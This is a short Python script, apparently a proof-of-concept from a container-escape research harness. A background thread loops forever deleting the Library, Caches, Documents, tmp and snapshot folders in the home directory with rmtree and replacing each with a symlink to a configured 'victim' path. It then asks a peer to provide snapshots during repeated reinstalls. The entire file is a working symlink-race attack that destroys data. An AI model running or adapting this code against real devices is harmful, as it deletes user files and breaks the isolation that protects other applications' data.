"""Replaces every folder of its container by a link to a victim's, again and again, while it is installed anew."""
KIND = "application"
REINSTALL = 12

import contextlib
import os
import shutil
import threading

import belt
from peer import Peer

home = os.environ["HOME"]
targets = belt.SETTINGS["victims"]


def farm():
    number = 0
    while True:
        for name in ("Library", "Library/Caches", "Documents", "tmp", ".snapshot-1"):
            number += 1
            place = os.path.join(home, name)
            with contextlib.suppress(OSError):
                if os.path.isdir(place) and not os.path.islink(place):
                    shutil.rmtree(place)
                else:
                    os.unlink(place)
            with contextlib.suppress(OSError):
                os.symlink(targets[number // 5 % len(targets)], place)


threading.Thread(target=farm, daemon=True).start()
peer = Peer().hello()
peer.request("provideSnapshots", provides=True)
peer.serve()
